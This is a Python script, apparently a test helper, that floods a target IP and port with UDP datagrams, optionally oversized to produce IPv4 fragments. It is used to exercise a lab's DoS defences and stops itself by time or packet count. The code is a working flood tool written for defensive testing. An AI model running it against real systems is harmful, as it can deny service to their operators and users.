#!/usr/bin/env python3
"""Bounded UDP flood for the lab's attacker namespace (defence e2e test).

Usage: udp-flood.py <vip> <port> <seconds> <max_packets> [<pps> [<size>]]
Sends <size>-byte datagrams (default 64; above the MTU the kernel sends them as IPv4
fragments: a fragment flood) from the namespace's own address as fast as one socket
can (pps 0) or paced to <pps>,
stops by itself after <seconds> or <max_packets>, whichever first, and prints one JSON
line: {"sent", "seconds", "pps"}. Run inside the attacker namespace only.
"""
import json
import socket
import sys
import time


def main() -> None:
    vip, port, seconds, max_packets = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), int(sys.argv[4])
    pps = int(sys.argv[5]) if len(sys.argv) > 5 else 0
    size = int(sys.argv[6]) if len(sys.argv) > 6 else 64
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setblocking(False)
    payload = (b"flood" * (size // 5 + 1))[:size]
    target = (vip, port)
    sent = 0
    started = time.monotonic()
    deadline = started + seconds
    while sent < max_packets:
        # Check the clock every 256 packets: cheap, and the bound still holds to a few ms.
        if sent % 256 == 0:
            now = time.monotonic()
            if now >= deadline:
                break
            ahead = sent / pps - (now - started) if pps else 0
            if ahead > 0:
                time.sleep(ahead)
        try:
            sock.sendto(payload, target)
            sent += 1
        except (BlockingIOError, OSError):
            time.sleep(0.0001)  # socket buffer full: let the kernel drain it
            if time.monotonic() >= deadline:
                break
    elapsed = time.monotonic() - started
    print(json.dumps({"sent": sent, "seconds": round(elapsed, 3), "pps": round(sent / elapsed) if elapsed else 0}))


if __name__ == "__main__":
    main()
